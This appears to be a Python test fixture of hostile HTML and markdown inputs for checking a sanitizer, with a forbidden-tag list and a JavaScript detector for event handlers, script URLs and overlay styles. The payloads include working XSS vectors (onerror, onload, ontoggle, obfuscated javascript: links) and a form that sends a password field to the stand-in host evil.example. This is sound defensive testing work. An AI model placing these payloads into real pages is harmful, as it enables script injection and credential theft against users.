"""SECURITY.md T47 payloads: each sets ``window.__pwned = 1`` if it runs."""

from __future__ import annotations

HOSTILE_HTML = [
    '<img src="x" onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=1"></svg>',
    "<script>window.__pwned=1</script>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<a id="link-js" href="jav&#x09;ascript:window.__pwned=1">tab link</a>',
    '<a id="link-data" href="data:text/html,<script>window.__pwned=1</script>">data link</a>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/steal"><input name="pw"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<div style="position:fixed;inset:0;z-index:9999;background:red" id="overlay">cover</div>',
    '<button popovertarget="pop">open</button><div popover id="pop">x</div>',
    '<details open ontoggle="window.__pwned=1">d</details>',
]
HOSTILE_MARKDOWN = [
    "[js link](javascript:window.__pwned=1)",
    "[data link](data:text/html,<script>window.__pwned=1</script>)",
    "[external](https://example.com/page)",
]
FORBIDDEN_TAGS = "script, style, link, meta, form, iframe, svg, button"

NOT_PWNED_JS = "() => window.__pwned === undefined && parent.__pwned === undefined"

ATTRIBUTE_FINDINGS_JS = """(root) => {
    const found = [];
    for (const element of root.querySelectorAll("*")) {
        for (const name of element.getAttributeNames()) {
            const value = (element.getAttribute(name) || "").replace(/\\s/g, "").toLowerCase();
            if (name.startsWith("on") || name.startsWith("popover")) found.push(name);
            if (/^(javascript|data:text)/.test(value)) found.push(`${name}=${value}`);
            if (name === "style" && /position|z-index|inset/.test(value)) found.push(value);
        }
    }
    return found;
}"""
